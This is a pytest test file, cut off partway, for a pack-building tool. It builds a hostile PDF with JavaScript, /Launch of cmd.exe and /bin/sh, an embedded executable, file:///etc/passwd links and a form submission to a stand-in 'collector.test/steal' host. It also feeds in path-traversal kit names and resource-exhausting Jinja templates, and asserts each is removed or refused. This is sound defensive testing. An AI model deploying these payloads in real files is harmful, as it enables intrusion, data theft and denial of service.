"""Hostile input, by class: active content in organisation PDFs, output folders that could hurt
the inputs, files outside the input folders, unbounded templates, broken assets, interrupted
runs and awkward family lists. Each test makes new instances of its class on the fly."""
from __future__ import annotations

import contextlib
import io
import os
import shutil
from pathlib import Path

import pytest

from conftest import ROOT, SAMPLE, reader
from kit import content
from kit.build import Options, build_pack
from kit.pdfsafe import active_content

EXAMPLE = ROOT / "examples" / "riverside-adoption"
CONSENT = EXAMPLE / "pdfs" / "consent-form.pdf"


def run(*args, cwd: Path | None = None):
    """make_kit's exit status, standard output and standard error."""
    import make_kit

    out, err = io.StringIO(), io.StringIO()
    old = os.getcwd()
    if cwd:
        os.chdir(cwd)
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = make_kit.main([str(a) for a in args])
    finally:
        os.chdir(old)
    return code, out.getvalue(), err.getvalue()


# --- 1. organisation PDFs carry no active content ------------------------------------------

def _js(writer, code: str):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    return writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject("/JavaScript"),
        NameObject("/JS"): TextStringObject(code)}))


def _action(writer, kind: str, **entries):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    d = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for k, v in entries.items():
        d[NameObject("/" + k)] = TextStringObject(v) if isinstance(v, str) else v
    return writer._add_object(d)


def _link(writer, page, rect, action=None, **extra):
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject

    annot = DictionaryObject({NameObject("/Type"): NameObject("/Annot"),
                              NameObject("/Subtype"): NameObject(extra.pop("subtype", "/Link")),
                              NameObject("/Rect"): ArrayObject(FloatObject(v) for v in rect)})
    if action is not None:
        annot[NameObject("/A")] = action
    for k, v in extra.items():
        annot[NameObject("/" + k)] = v
    ref = writer._add_object(annot)
    page.setdefault(NameObject("/Annots"), ArrayObject()).get_object().append(ref)
    return ref


def make_hostile_pdf(path: Path, tagged: bool = True) -> None:
    """A one-page form carrying every kind of active content a PDF can hold, plus one web link
    that must survive."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import (ArrayObject, DecodedStreamObject, DictionaryObject, NameObject,
                               NumberObject, TextStringObject)

    if tagged:
        w = PdfWriter(clone_from=PdfReader(CONSENT))
    else:
        from reportlab.pdfgen import canvas

        buf = io.BytesIO()
        c = canvas.Canvas(buf, pagesize=(595, 842), invariant=1)
        c.drawString(72, 700, "An untagged form")
        c.acroForm.textfield(name="plain", x=72, y=600, width=200, height=20)
        c.showPage()
        c.save()
        w = PdfWriter(clone_from=PdfReader(io.BytesIO(buf.getvalue())))
    root, page = w._root_object, w.pages[0]
    n = NameObject
    # document level: JavaScript name tree, an opening action, document additional actions
    names = DictionaryObject({n("/JavaScript"): w._add_object(DictionaryObject({
        n("/Names"): ArrayObject([TextStringObject("evil"), _js(w, "app.alert('doc')")])}))})
    embedded = DecodedStreamObject()
    embedded.set_data(b"MZ not a program")
    embedded[n("/Type")] = n("/EmbeddedFile")
    filespec = w._add_object(DictionaryObject({
        n("/Type"): n("/Filespec"), n("/F"): TextStringObject("run.exe"),
        n("/EF"): DictionaryObject({n("/F"): w._add_object(embedded)})}))
    names[n("/EmbeddedFiles")] = w._add_object(DictionaryObject({
        n("/Names"): ArrayObject([TextStringObject("run.exe"), filespec])}))
    root[n("/Names")] = w._add_object(names)
    root[n("/OpenAction")] = _js(w, "app.alert('open')")
    root[n("/AA")] = DictionaryObject({n("/WC"): _js(w, "app.alert('close')")})
    # page additional actions
    page[n("/AA")] = DictionaryObject({n("/O"): _js(w, "app.alert('page')"),
                                       n("/C"): _action(w, "/Launch", F="cmd.exe")})
    # links: JavaScript, a web link with a /Next chain into JavaScript and /Launch, bad schemes,
    # another file, an embedded file, an internal destination; and one good link
    _link(w, page, [10, 10, 50, 30], _js(w, "app.alert('link')"))
    chain = _action(w, "/URI", URI="https://example.org/ok-chain")
    chain.get_object()[n("/Next")] = ArrayObject([
        _js(w, "app.alert('next')"),
        _action(w, "/Launch", F="calc.exe", Next=_action(w, "/SubmitForm", F="http://x.test"))])
    _link(w, page, [60, 10, 100, 30], chain)
    bad_first = _js(w, "app.alert('first')")  # a bad action whose /Next holds good ones
    bad_first.get_object()[n("/Next")] = ArrayObject([
        _action(w, "/URI", URI="https://example.org/after-js"),
        _action(w, "/URI", URI="https://example.org/after-js-2")])
    _link(w, page, [10, 70, 50, 90], bad_first)
    _link(w, page, [110, 10, 150, 30], _action(w, "/URI", URI="javascript:alert(1)"))
    _link(w, page, [160, 10, 200, 30], _action(w, "/URI", URI="file:///etc/passwd"))
    _link(w, page, [210, 10, 250, 30], _action(w, "/GoToR", F="other.pdf",
                                               D=ArrayObject([NumberObject(0), n("/Fit")])))
    _link(w, page, [260, 10, 300, 30], _action(w, "/GoToE", D=ArrayObject([NumberObject(0),
                                                                            n("/Fit")])))
    _link(w, page, [310, 10, 350, 30], _action(w, "/ImportData", F="data.fdf"))
    _link(w, page, [360, 10, 400, 30], _action(w, "/Launch", F="/bin/sh",
                                               Win=DictionaryObject({n("/F"): TextStringObject(
                                                   "cmd.exe")})))
    # actions dressed with a structure element's keys (/P, /K), which a viewer ignores
    _link(w, page, [10, 100, 50, 120], _action(w, "/Launch", F="calc.exe", P=NumberObject(0)))
    _link(w, page, [60, 100, 100, 120], _action(w, "/URI", URI="file:///etc/shadow",
                                                K=NumberObject(0)))
    _link(w, page, [410, 10, 450, 30], None,
          Dest=ArrayObject([page.indirect_reference, n("/Fit")]))
    _link(w, page, [460, 10, 500, 30], _action(w, "/URI", URI="https://example.org/kept"))
    _link(w, page, [510, 10, 550, 30], _action(w, "/URI", URI="mailto:help@example.org"))
    _link(w, page, [10, 40, 30, 60], None, subtype="/FileAttachment", FS=filespec)
    _link(w, page, [40, 40, 60, 60], None, subtype="/Screen",
          A=_action(w, "/Rendition", JS=TextStringObject("app.alert('media')")))
    # fields: additional actions on a widget and on its parent, a button that submits
    for ref in page.get("/Annots") or []:
        annot = ref.get_object()
        if annot.get("/Subtype") == "/Widget":
            annot[n("/AA")] = DictionaryObject({n("/K"): _js(w, "app.alert('keystroke')"),
                                                n("/Fo"): _js(w, "app.alert('focus')")})
            annot[n("/A")] = _action(w, "/SubmitForm", F="https://collector.test/steal")
            parent = annot.get("/Parent")
            if parent is not None:
                parent.get_object()[n("/AA")] = DictionaryObject({
                    n("/V"): _js(w, "app.alert('validate')")})
            break
    # a structure element carrying actions of its own
    tree = root.get("/StructTreeRoot")
    if tree is not None:
        kids = tree.get_object()["/K"]
        first = (kids[0] if isinstance(kids, list) else kids).get_object()
        first[n("/AA")] = DictionaryObject({n("/O"): _js(w, "app.alert('struct')")})
    w.write(path)


def _org_with(tmp_path: Path, pdf_maker=None) -> Path:
    """The example organisation, its kit cut down to the documents that matter here (the
    welcome page with a family's name, the overridden handout, the prefilled referral sheet and
    the organisation's own PDF, made by pdf_maker), so that a pack builds in a second."""
    import re

    org = tmp_path / "org"
    shutil.copytree(EXAMPLE, org)
    if pdf_maker is not None:
        pdf_maker(org / "pdfs" / "consent-form.pdf")
    kit = org / "kits" / "riverside-adoption.yaml"
    text = kit.read_text()
    listed = re.search(r"^documents:\n((?:  - .*\n)+)", text, re.M)
    kept = [line for line in listed.group(1).splitlines(True)
            if line.strip() in ("- welcome", "- basics", "- referral-sheet") or "pdf:" in line]
    assert len(kept) == 4, listed.group(1)
    kit.write_text(text.replace(listed.group(1), "".join(kept)))
    return org


def test_hostile_pdf_loses_every_kind_of_active_content(tmp_path):
    org = _org_with(tmp_path, make_hostile_pdf)
    assert active_content((org / "pdfs" / "consent-form.pdf").read_bytes())  # the test has teeth
    pack = content.load_pack("riverside-adoption", content.Places(content.CONTENT, org))
    warning = next(str(w) for w in pack.warnings if "active content removed" in str(w))
    assert "riverside-adoption.yaml" in warning and "consent-form.pdf" in warning
    for word in ("JavaScript", "/Launch", "/OpenAction", "'javascript:'", "'file:'", "/GoToR",
                 "/GoToE", "/ImportData", "/SubmitForm", "embedded file", "FileAttachment",
                 "Screen", "/AA", "a link within the file"):
        assert word in warning, word
    for forms in (True, False):
        result = build_pack(pack, Options(forms=forms))
        for name, data in result.files.items():
            assert active_content(data) == [], name
        if forms:
            data = result.files["riverside-adoption.pdf"]
    uris = set()
    for page in reader(data).pages:
        for ref in page.get("/Annots") or []:
            action = ref.get_object().get("/A")
            assert action is None or hasattr(action, "keys"), action  # one action, not a list
            if action is not None and action.get("/S") == "/URI":
                uris.add(str(action["/URI"]))
    assert {"https://example.org/kept", "mailto:help@example.org",
            "https://example.org/ok-chain", "https://example.org/after-js"} <= uris
    assert not any(u.startswith(("javascript:", "file:")) for u in uris)


def test_untagged_hostile_pdf_is_cleaned_too(tmp_path):
    org = _org_with(tmp_path, lambda p: make_hostile_pdf(p, tagged=False))
    pack = content.load_pack("riverside-adoption", content.Places(content.CONTENT, org))
    assert any("active content removed" in str(w) for w in pack.warnings)
    data = build_pack(pack, Options(documents=False)).files["riverside-adoption.pdf"]
    assert active_content(data) == []
    again = content.load_pack("riverside-adoption", content.Places(content.CONTENT, org))
    assert build_pack(again, Options(documents=False)).files["riverside-adoption.pdf"] == data


def test_clean_pdf_has_no_warning_and_is_placed_as_the_cleaner_read_it():
    """A clean file gives no warning. What is placed is the copy the cleaner wrote (the same
    pages, text and fields), not the original bytes, which another parser might read
    otherwise than the one that checked them; and the copy is the same every time."""
    from pypdf import PdfReader

    from kit.pdfsafe import clean

    data = CONSENT.read_bytes()
    copy, removed = clean(data)
    assert removed == [] and copy != data and clean(data) == (copy, [])
    original, cleaned = PdfReader(io.BytesIO(data)), PdfReader(io.BytesIO(copy))
    assert [p.extract_text() for p in cleaned.pages] == [p.extract_text() for p in original.pages]
    assert cleaned.get_fields().keys() == original.get_fields().keys()


def test_every_family_pack_in_a_batch_is_clean(tmp_path):
    org = _org_with(tmp_path, make_hostile_pdf)
    out = tmp_path / "packs"
    code, _, err = run("--org", org, "batch", "riverside-adoption", org / "families.csv",
                       "--out", out, "--jobs", "1", "--no-progress")
    assert code == 0, err
    assert "active content removed" in err
    packs = sorted(out.glob("*.pdf"))
    assert len(packs) == 3
    for pack in packs:
        assert active_content(pack.read_bytes()) == [], pack.name


# --- 3. the output folder can never hurt the inputs or anything else ------------------------

@pytest.fixture
def tree(tmp_path) -> Path:
    """A copy of the sample content in tmp/content, and an organisation folder in tmp/org."""
    shutil.copytree(SAMPLE, tmp_path / "content")
    (tmp_path / "org" / "kits").mkdir(parents=True)
    return tmp_path


def _digest(folder: Path) -> dict:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file()}


@pytest.mark.parametrize("out", [".", "content", "content/en", "content/en/documents", "org",
                                 "org/kits/out", "content/kits/sample.yaml"])
def test_output_folder_that_is_holds_or_lies_inside_an_input_is_refused(tree, out):
    before = _digest(tree)
    code, _, err = run("--content", "content", "--org", "org", "build", "sample", "--out", out,
                       cwd=tree)
    assert code == 2, err
    assert err.startswith(f"error: {out}: the output folder may not ") and "Traceback" not in err
    assert _digest(tree) == before


def test_output_folder_holding_the_kit_or_families_file_is_refused(tree):
    kit = tree / "elsewhere" / "my-kit.yaml"
    kit.parent.mkdir()
    shutil.copy(tree / "content" / "kits" / "sample.yaml", kit)
    code, _, err = run("--content", "content", "build", "elsewhere/my-kit.yaml", "--out",
                       "elsewhere", cwd=tree)
    assert code == 2 and "may not hold elsewhere/my-kit.yaml" in err
    families = tree / "lists" / "families.csv"
    families.parent.mkdir()
    families.write_text("id,child_name\na,Ann\n")
    code, _, err = run("--content", "content", "batch", "sample", families, "--out", "lists",
                       "--no-progress", cwd=tree)
    assert code == 2 and "may not hold lists/families.csv" in err
    site = run("--content", "content", "site", "sample", "--out", "content/site", cwd=tree)
    assert site[0] == 2 and "may not be inside content/" in site[2]
    before = _digest(tree)
    site = run("--content", "content", "site", "elsewhere/my-kit.yaml", "--out", "elsewhere",
               cwd=tree)
    assert site[0] == 2 and "may not hold elsewhere/my-kit.yaml" in site[2], site[2]
    assert _digest(tree) == before


@pytest.mark.parametrize("out", ["content/en/documents/handout.yaml", "content/sample.es.po",
                                 "content/kits/sample.yaml"])
def test_a_translation_export_never_writes_over_or_into_the_inputs(tree, out):
    before = _digest(tree)
    code, _, err = run("--content", "content", "translate", "export", "sample", "--language",
                       "es", "--out", out, cwd=tree)
    assert code == 2 and "Traceback" not in err, err
    assert err.startswith(f"error: {out}: the output file may not "), err
    assert _digest(tree) == before
    code, _, err = run("--content", "content", "translate", "export", "sample", "--language",
                       "es", "--out", "po/sample.es.po", cwd=tree)
    assert code == 0, err
    assert (tree / "po" / "sample.es.po").read_text().startswith("#")


@pytest.mark.parametrize("name", ["../x", "../../etc/passwd", "/tmp/x", "a/b", ".", "..", "",
                                  "con", "kits/../sample", "x\\y", "..yaml", "con.yaml"])
def test_kit_names_that_could_escape_are_refused(tree, name):
    code, _, err = run("--content", "content", "build", name, "--out", "out", cwd=tree)
    assert code == 2, err
    assert "not a kit name" in err or "no such kit" in err
    assert not (tree / "out").exists() and not (tree / "x.pdf").exists()


def test_output_is_never_written_through_a_link(tree):
    victim = tree / "victim"
    victim.mkdir()
    (victim / "handout.pdf").write_bytes(b"not the tool's")
    out = tree / "out"
    out.mkdir()
    (out / "sample").symlink_to(victim, target_is_directory=True)
    code, _, err = run("--content", "content", "build", "sample", "--out", "out", cwd=tree)
    assert code == 2 and "never written through a link" in err, err
    assert (victim / "handout.pdf").read_bytes() == b"not the tool's"
    assert sorted(p.name for p in victim.iterdir()) == ["handout.pdf"]
    # nor are the documents a batch keeps: a linked folder is neither read, written nor pruned
    from kit.assemble import Part
    from kit.rendercache import PARTS_DIR, PartFolder

    (out / "sample").unlink()
    name = "a" * 64
    (victim / f"{name}.json").write_text("[]")
    (out / PARTS_DIR).symlink_to(victim, target_is_directory=True)
    folder = PartFolder(out)
    folder.put(("shape",), {}, Part("sample/handout.pdf", b"%PDF-", 1))
    assert folder.get(("shape",), {}, "sample/handout.pdf") is None
    folder.prune(limit=0)
    assert sorted(p.name for p in victim.iterdir()) == [f"{name}.json", "handout.pdf"]
    assert (victim / "handout.pdf").read_bytes() == b"not the tool's"


def test_only_files_the_tool_wrote_are_ever_deleted(tree):
    code, _, err = run("--content", "content", "build", "sample", "--out", "out", cwd=tree)
    assert code == 0, err
    folder = tree / "out" / "sample"
    (folder / "my-notes.pdf").write_bytes(b"a file of the user's")
    (tree / "out" / "mine.pdf").write_bytes(b"another")
    kit = tree / "content" / "kits" / "sample.yaml"
    text = kit.read_text()
    assert "handout, " in text
    kit.write_text(text.replace("handout, ", "", 1))
    code, _, err = run("--content", "content", "build", "sample", "--out", "out", cwd=tree)
    assert code == 0, err
    assert not (folder / "handout.pdf").exists()  # the tool wrote it; the kit no longer has it
    assert (folder / "my-notes.pdf").read_bytes() == b"a file of the user's"
    assert (tree / "out" / "mine.pdf").read_bytes() == b"another"


def test_a_forged_manifest_deletes_nothing_outside_or_unlisted(tree):
    import json

    from kit.output import MANIFEST, remove_written

    out = tree / "out"
    (out / "sub").mkdir(parents=True)
    (tree / "precious.pdf").write_bytes(b"keep")
    (out / "sub" / "user.pdf").write_bytes(b"keep")
    (out / "link").symlink_to(tree, target_is_directory=True)
    (out / MANIFEST).write_text(json.dumps(["../precious.pdf", "/etc/hostname",
                                            "link/precious.pdf", "sub/../../precious.pdf"]))
    remove_written(out, {"../precious.pdf", "link/precious.pdf", "sub/user.pdf",
                         "sub/../../precious.pdf", "/etc/hostname"})
    assert (tree / "precious.pdf").read_bytes() == b"keep"
    assert (out / "sub" / "user.pdf").read_bytes() == b"keep"


# --- 2. nothing outside the content and organisation folders is read ------------------------

def _link_out(tree: Path, rel: str, payload: bytes | None = None) -> Path:
    """Replace content/rel by a link to a copy of it (or to payload) outside the content."""
    inside = tree / "content" / rel
    outside = tree / "outside" / rel.replace("/", "_")
    outside.parent.mkdir(exist_ok=True)
    if payload is None:
        shutil.copy(inside, outside)
    else:
        outside.write_bytes(payload)
    inside.unlink(missing_ok=True)
    inside.parent.mkdir(parents=True, exist_ok=True)
    inside.symlink_to(outside)
    return outside


@pytest.mark.parametrize("rel, where", [
    ("kits/sample.yaml", "kits/sample.yaml: error: the kit file is a link"),
    ("brands/plain/brand.yaml", "kits/sample.yaml:3:8: error: brand: "),
    ("en/strings.yaml", "kits/sample.yaml:2:11: error: language: "),
    ("en/documents/handout.yaml", "kits/sample.yaml:10:13: error: documents[0]: "),
])
def test_yaml_files_reached_through_a_link_out_are_refused_at_the_line_naming_them(tree, rel,
                                                                                    where):
    _link_out(tree, rel)
    code, _, err = run("--content", "content", "build", "sample", "--out", "out", cwd=tree)
    assert code == 2, err
    assert err.startswith(f"content/{where}") or where in err, err
    assert "outside the content" in err and "Traceback" not in err


def test_a_brand_folder_that_is_a_link_out_is_refused(tree):
    brand = tree / "content" / "brands" / "plain"
    shutil.move(brand, tree / "elsewhere")
    brand.symlink_to(tree / "elsewhere", target_is_directory=True)
    code, _, err = run("--content", "content", "check", "sample", cwd=tree)
    assert code == 2 and "brand: " in err and "outside the content" in err, err


def test_fonts_images_and_pdfs_reached_through_a_link_out_are_refused(tree):
    from PIL import Image

    brand = tree / "content" / "brands" / "plain"
    fonts = ROOT / "content" / "fonts"
    for face in ("Regular", "Bold", "Italic", "BoldItalic"):
        shutil.copy(fonts / f"AtkinsonHyperlegibleNext-{face}.ttf", brand / f"{face}.ttf")
    _link_out(tree, "brands/plain/Bold.ttf")
    Image.new("RGB", (4, 4)).save(tree / "logo.png")
    (brand / "logo.png").symlink_to(tree / "logo.png")
    with open(brand / "brand.yaml", "a") as fh:
        fh.write("logo: logo.png\nlogo_alt: Logo\nfonts: {regular: Regular.ttf, bold: Bold.ttf, "
                 "italic: Italic.ttf, bold_italic: BoldItalic.ttf}\n")
    (tree / "content" / "pdfs").mkdir()
    (tree / "content" / "pdfs" / "form.pdf").symlink_to(CONSENT)
    kit = tree / "content" / "kits" / "sample.yaml"
    kit.write_text(kit.read_text().replace("documents: [handout,",
                                           "documents: [{pdf: pdfs/form.pdf, title: Form}, handout,"))
    code, _, err = run("--content", "content", "check", "sample", cwd=tree)
    assert code == 2, err
    lines = err.splitlines()
    assert any(line.startswith("content/brands/plain/brand.yaml:") and "fonts.bold:" in line
               and "outside the content folder" in line for line in lines), err
    assert any("logo:" in line and "outside the content folder" in line for line in lines), err
    assert any(line.startswith("content/kits/sample.yaml:10:") and "documents[0].pdf:" in line
               and "outside the content folder" in line for line in lines), err


SVG_TEXT = b"""<svg xmlns="http://www.w3.org/2000/svg" width="200" height="40" viewBox="0 0 200 40">
<style>text { font-family: "No Such Font Anywhere", "../../../../etc/passwd", serif; }</style>
<rect width="200" height="40" fill="#2B4C3F"/>
<text x="10" y="28" font-family="DejaVu Sans" font-weight="bold" font-size="20" fill="#fff">Logo text</text>
<text x="120" y="28" style="font-family: Comic Sans MS">More</text>
</svg>"""


def test_svg_text_needs_no_font_lookup_subprocess_or_file(tmp_path, monkeypatch):
    import builtins
    import socket
    import subprocess

    from kit import assets

    svg = tmp_path / "logo.svg"
    svg.write_bytes(SVG_TEXT)
    opened = []
    real_open = builtins.open

    def recording_open(file, *a, **kw):
        opened.append(str(file))
        return real_open(file, *a, **kw)

    def refuse(*a, **kw):
        raise AssertionError(f"SVG loading started a subprocess or connection: {a}")

    monkeypatch.setattr(builtins, "open", recording_open)
    monkeypatch.setattr(subprocess, "Popen", refuse)
    monkeypatch.setattr(socket.socket, "connect", refuse)
    asset = assets.load_image(svg)
    monkeypatch.undo()
    assert [f for f in opened if not f.endswith("logo.svg")] == []
    # drawn in the brand's font, embedded: no Helvetica, Times or anything else
    from reportlab.pdfgen import canvas

    name = assets.check_font(ROOT / "content" / "fonts" / "AtkinsonHyperlegibleNext-Regular.ttf")
    buf = io.BytesIO()
    c = canvas.Canvas(buf)
    c.setFont(name, 12)
    assets.draw(c, asset, 10, 10, 200, 40)
    c.showPage()
    c.save()
    page = reader(buf.getvalue()).pages[0]
    used = {name for name, font in page["/Resources"]["/Font"].items()
            if "AtkinsonHyperlegibleNext" in str(font.get_object()["/BaseFont"])}
    stream = page.get_contents().get_data().decode("latin-1")
    stream = stream[stream.index("\nq"):]  # the drawing, after the canvas's own preamble
    import re

    assert used and set(re.findall(r"(/F\d+) [\d.]+ Tf", stream)) <= used, stream


@pytest.mark.parametrize("size", ['width="NaN" height="40"', 'width="inf" height="inf"',
                                  'width="1e300" height="1e300"', 'width="0" height="0"',
                                  'width="100000000" height="10"',
                                  'viewBox="0 0 NaN NaN"'])
def test_svg_with_absurd_size_is_a_located_error(tree, size):
    doc = tree / "content" / "en" / "documents" / "handout.yaml"
    (doc.parent / "bad.svg").write_text(f'<svg xmlns="http://www.w3.org/2000/svg" {size}>'
                                        '<rect width="10" height="10"/></svg>')
    doc.write_text(doc.read_text().replace(
        "body:\n", "body:\n  - image: {file: bad.svg, alt: A picture}\n", 1))
    code, _, err = run("--content", "content", "check", "sample", cwd=tree)
    assert code == 2, err
    assert err.startswith("content/en/documents/handout.yaml:") and "image.file: SVG" in err, err
    assert "Traceback" not in err


# --- 4. every evaluation is bounded ---------------------------------------------------------

COSTLY_TEMPLATES = [
    "{{ 'x' * 10**10 }}", "{{ [1] * 10**9 }}", "{{ 'ab' * 99999 * 99999 }}",
    "{{ '%999999999d' | format(1) }}", "{{ '%999999999d' % 1 }}", "{{ '%.99999999f' % 1 }}",
    "{{ '{:999999999}'.format(1) }}", "{{ '{:>{w}}'.format(1, w=10**9) }}",
    "{{ 9**9**9**9 }}", "{{ 9**(9**9) }}", "{{ 10**1000 }}", "{{ 2**100000 }}",
    "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}",
    "{% for a in 'x' * 9999 %}{% for b in 'y' * 9999 %}{% endfor %}{% endfor %}",
    "{% for i in range(99999) %}" + "text " * 200 + "{% endfor %}",
    "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}",
    "{% macro f(n) %}{% if n %}{{ f(n-1) }}{{ f(n-1) }}{% endif %}{% endmacro %}{{ f(60) }}",
    "{% set ns = namespace(s='x') %}{% for i in range(80) %}{% set ns.s = ns.s ~ ns.s %}"
    "{% endfor %}{{ ns.s | length }}",
    "{{ 'x' | center(999999999) }}", "{{ 'x'.ljust(10**9) }}", "{{ 'x' | indent(10**9) }}",
    "{{ 'a\tb'.expandtabs(10**9) }}", "{{ 'ab' | replace('', 'x' * 99999) }}",
    "{{ range(10**9) | list | length }}", "{{ [['x' * 99999] * 99999] | join }}",
    "{{ ('y' * 99999).join(['x'] * 99999) }}", "{{ ([[1] * 999] * 999) | sum(start=[]) }}",
    "{% set s = 'x' * 99999 %}{% set b = [s,s,s,s,s,s,s,s,s,s] %}{% set c = [b,b,b,b,b,b,b,b,b,b] %}"
    "{% set d = [c,c,c,c,c,c,c,c,c,c] %}{{ d }}",
    "{% for x in range(99999) | batch(3) %}{% for y in range(99) %}{% endfor %}{% endfor %}",
]


@pytest.mark.parametrize("template", COSTLY_TEMPLATES)
def test_costly_template_is_a_located_error_within_two_seconds(tree, template):
    import time

    doc = tree / "content" / "en" / "documents" / "handout.yaml"
    text = doc.read_text()
    quoted = template.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
    doc.write_text(text.replace("body:\n", f"body:\n  - p: \"{quoted}\"\n", 1))
    start = time.monotonic()
    code, _, err = run("--content", "content", "check", "sample", cwd=tree)
    elapsed = time.monotonic() - start
    assert code == 2, err
    assert err.startswith("content/en/documents/handout.yaml:7:8: error: body[0].p: template too costly: "), err
    assert "Traceback" not in err and elapsed < 2 + 3, elapsed  # the check itself takes ~1 s


def test_templates_within_the_limits_still_work():
    from kit.loader import Source
    from kit.variables import render_source

    source = Source(Path("doc.yaml"), {"p": "{% for i in range(3) %}{{ i * 2 }},{% endfor %} "
                                            "{{ '%5.1f' | format(2.25) }} {{ 2 ** 10 }} "
                                            "{{ ['a', 'b'] | join('-') }} {{ [1, 2] | sum }} "
                                            "{{ 'x' | center(5) }}|"})
    problems = []
    assert render_source(source, {}, problems) == {"p": "0,2,4,   2.2 1024 a-b 3   x  |"}
    assert problems == []


def test_the_loop_budget_is_shared_across_a_document(tree):
    from kit.bounds import MAX_STEPS

    doc = tree / "content" / "en" / "documents" / "handout.yaml"
    loop = "{%% for i in range(%d) %%}{%% endfor %%}ok" % (MAX_STEPS // 3)
    doc.write_text(doc.read_text().replace(
        "body:\n", "body:\n" + "".join(f"  - p: \"{loop}\"\n" for _ in range(5)), 1))
    code, _, err = run("--content", "content", "check", "sample", cwd=tree)
    assert code == 2 and "loop iterations" in err, err
    assert "body[0]" not in err and "body[1]" not in err
    assert "body[2].p: template too costly" in err  # the third one goes past the budget


def _fifty_fields(loop: str) -> str:
    """Fifty templates of one document, in blocks, list items, headings, table cells and a
    callout: YAML for the top of a handout's body."""
    kinds = [f'  - p: "{loop}"\n', f'  - bullets: ["{loop}"]\n', f'  - h2: "{loop}"\n',
             f'  - table: {{header: [A, B], rows: [["{loop}", "b"]]}}\n',
             f'  - callout: {{kind: note, title: "{loop}", text: "t"}}\n']
    return "".join(kinds[i % len(kinds)] for i in range(50))


@pytest.mark.parametrize("cost", ["steps", "output"])
def test_fifty_templates_each_within_the_limits_are_bounded_together(tree, cost):
    import re

    from kit.bounds import MAX_OUTPUT, MAX_STEPS

    if cost == "steps":  # 1/40 of the document's loop budget each: 50 of them are 1.25 times it
        loop = "{%% for i in range(%d) %%}{%% endfor %%}ok" % (MAX_STEPS // 40)
    else:  # 1/40 of the document's output budget each, in a field too short to be refused
        loop = "{{ 'ab ' * %d }}" % (MAX_OUTPUT // 40 // 3)
    doc = tree / "content" / "en" / "documents" / "handout.yaml"
    doc.write_text(doc.read_text().replace("body:\n", "body:\n" + _fifty_fields(loop), 1))
    code, _, err = run("--content", "content", "check", "sample", cwd=tree)
    assert code == 2, err
    assert "Traceback" not in err
    costly = [line for line in err.splitlines() if "template too costly" in line]
    assert costly, err
    first = re.match(r"content/en/documents/handout\.yaml:(\d+):(\d+): error: body\[(\d+)\]",
                     costly[0])
    assert first, costly[0]
    assert 30 <= int(first.group(3)) < 50  # not the first ones: together, not each
    assert int(first.group(1)) == 7 + int(first.group(3))  # the line of that block
    assert ("loop iterations" if cost == "steps" else "characters") in costly[0]


def test_each_family_of_a_batch_has_a_fresh_budget_for_each_document(tree):
    from kit.bounds import MAX_STEPS

    # each document's templates use 3/5 of a document's budget: sharing it between the two
    # documents, between families or with the kit's prefill values would go past it
    loop = "{%% for i in range(%d) %%}{%% endfor %%}" % (MAX_STEPS * 3 // 5)
    for name, field, line in (
            ("handout", "body:\n", f'  - p: "{loop}For {{{{ family.child_name }}}}."\n'),
            ("checklist", "    items:\n",
             f'      - "{loop}Ask about {{{{ family.child_name }}}}."\n')):
        doc = tree / "content" / "en" / "documents" / f"{name}.yaml"
        text = doc.read_text()
        assert field in text
        doc.write_text(text.replace(field, field + line, 1))
    kit = tree / "content" / "kits" / "sample.yaml"
    kit.write_text(kit.read_text() + f'prefill:\n  note: "{loop}seen"\n')
    (tree / "families.csv").write_text("id,child_name\nann,Ann\nbo,Bo\n")
    code, out, err = run("--content", "content", "batch", "sample", "families.csv", "--out",
                         "packs", "--no-progress", "--jobs", "1", cwd=tree)
    assert "too costly" not in err and "Traceback" not in err, err
    assert code == 0, err
    assert sorted(p.name for p in (tree / "packs").glob("*.pdf")) == ["ann.pdf", "bo.pdf"]
    for name in ("Ann", "Bo"):
        text = "".join(page.extract_text() for page in
                       reader((tree / "packs" / f"{name.lower()}.pdf").read_bytes()).pages)
        assert f"For {name}." in text and f"Ask about {name}." in text


@pytest.mark.parametrize("where", ["prefill", "contact"])
def test_a_kits_prefill_values_and_a_brands_lines_are_bounded_together(tree, where):
    import re

    from kit.bounds import MAX_STEPS

    loop = "{%% for i in range(%d) %%}{%% endfor %%}x" % (MAX_STEPS // 20)
    if where == "prefill":
        kit = tree / "content" / "kits" / "sample.yaml"
        kit.write_text(kit.read_text() + "prefill:\n" + "".join(
            f'  field{i}: "{loop}"\n' for i in range(30)))
        shown, field = "content/kits/sample.yaml", r"prefill\.field(\d+)"
    else:
        brand = tree / "content" / "brands" / "plain" / "brand.yaml"
        text = brand.read_text()
        line = next(x for x in text.splitlines(True) if x.startswith("contact:"))
        brand.write_text(text.replace(line, "contact:\n" + "".join(
            f'  - "{loop}"\n' for i in range(30))))
        shown, field = "content/brands/plain/brand.yaml", r"contact\[(\d+)\]"
    code, _, err = run("--content", "content", "check", "sample", cwd=tree)
    assert code == 2 and "Traceback" not in err, err
    costly = [line for line in err.splitlines() if "template too costly" in line]
    first = costly and re.match(re.escape(shown) + r":\d+:\d+: error: " + field, costly[0])
    assert first, err
    assert 15 <= int(first.group(1)) < 30  # 1/20 of a budget each: 30 of them, not each alone


# --- 5. bad assets fail at load, not in the renderer ----------------------------------------

def _damaged_fonts(good: bytes) -> dict[str, bytes]:
    """Fonts that ReportLab may accept but that are broken: each a new instance of the class."""
    import struct

    from fontTools.ttLib import TTFont

    font = TTFont(io.BytesIO(good))
    tables = {tag: (off, length) for tag, _, off, length in
              (struct.unpack(">4sLLL", good[12 + 16 * i:28 + 16 * i])
               for i in range(struct.unpack(">H", good[4:6])[0]))}
    glyf_off, glyf_len = tables[b"glyf"]
    loca_off, loca_len = tables[b"loca"]
    out = {}
    # glyf cut short: the file ends part-way through it
    out["truncated-glyf"] = good[:glyf_off + glyf_len // 3]
    # glyf overwritten with noise in the middle
    noisy = bytearray(good)
